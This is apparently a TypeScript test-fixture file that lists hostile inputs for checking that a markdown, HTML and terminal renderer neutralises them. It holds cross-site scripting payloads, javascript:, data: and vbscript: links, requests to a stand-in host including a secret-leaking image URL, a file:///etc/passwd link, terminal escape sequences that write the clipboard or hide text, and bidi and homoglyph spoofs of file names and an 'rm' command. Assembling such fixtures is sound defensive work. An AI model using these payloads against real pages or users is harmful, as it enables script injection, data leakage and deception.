/**
 * Foreign text that tries to act. Each line of `markup` sets `window.__ran` if it runs; each address in the lines would
 * cause a request. The classes come from the advisories in docs/acceptance.md (T67..T69, A2, A32..A36, A50).
 */
const run = 'window.__ran=1'
const away = 'https://away.example'

export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">m</math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${away}/frame"></iframe>`,
  `<object data="${away}/object"></object><embed src="${away}/embed">`,
  `<form action="${away}/form"><button formaction="javascript:${run}">b</button></form>`,
  `<link rel=stylesheet href="${away}/sheet.css"><style>@import url(${away}/import.css)</style>`,
  `<base href="${away}/"><meta http-equiv=refresh content="0;url=${away}/refresh">`,
  `<video src="${away}/v" onerror="${run}" autoplay></video><audio src="${away}/a"></audio>`,
  `<details open ontoggle="${run}">d</details>`,
  `<input autofocus onfocus="${run}">`,
  `<a href="javascript:${run}" id="location" name="body">clobber</a>`,
  `<a data-commandlinker-command="run" onclick="${run}">command</a>`,
  `[script](javascript:${run})`,
  `[script](JaVaScRiPt:${run})`,
  `[script](java\nscript:${run})`,
  `[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:${run})`,
  `[file](file:///etc/passwd)`,
  `[blob](blob:${away}/x)`,
  `<javascript:${run}>`,
  `![image](${away}/leak.png?secret=1)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3Jhbj0xIi8+)`,
  `[reference][ref]\n\n[ref]: javascript:${run} "title"`,
  `![reference][pic]\n\n[pic]: ${away}/ref.png`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"] --> B; click A "javascript:${run}"\n\`\`\``,
  `$$\\href{javascript:${run}}{x}$$`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `| <img src=x onerror="${run}"> | b |\n|---|---|\n| [x](javascript:${run}) | ![](${away}/cell.png) |`,
  `&lt;img src=x onerror=${run}&gt; &#x3C;script&#x3E;${run}&#x3C;/script&#x3E;`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `{{constructor.constructor('${run}')()}}`,
  `__proto__ constructor toString`,
]

const esc = '\u001b'
/** Only the words and plain colours of these may be visible. `hidden` marks what must not show. */
export const terminal: readonly string[] = [
  `${esc}[31mred${esc}[0m plain`,
  `${esc}]0;hidden title\u0007words`,
  `${esc}]8;;javascript:${run}\u0007link${esc}]8;;\u0007`,
  `${esc}]8;;${away}/osc\u0007<img src=x onerror="${run}">${esc}]8;;\u0007`,
  `${esc}]52;c;aGlkZGVu\u0007clip`,
  `${esc}P hidden dcs ${esc}\\words`,
  `${esc}_hidden apc${esc}\\${esc}^hidden pm${esc}\\words`,
  `${esc}[2J${esc}[H${esc}[10Aabove`,
  `${esc}[?1049h${esc}[?25lscreen`,
  `${esc}[38;5;300m${esc}[38;2;999;1;1mcolour`,
  `${esc}[31`,
  `\u009b31mc1\u009d0;hidden\u009c`,
  `overwritten\rcarriage`,
  `back\u0008\u0008\u0008space`,
]

/** Characters that reverse the order of letters or are invisible. */
export const invisible = {
  file: 'safe\u202egpj.exe',
  command: 'echo ok \u2066;\u2069 # \u200b\u200d\ufeff\u00ad\u061c\u180e',
  /** A Cyrillic letter, a dash for a minus sign, a no-break space, a fullwidth slash, spaces at the end. */
  spoof: 'rm \u2013rf p\u0430ypal.sh\u00a0\uff0f  ',
  marks: ['\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\ufeff', '\u061c', '\u180e'],
} as const
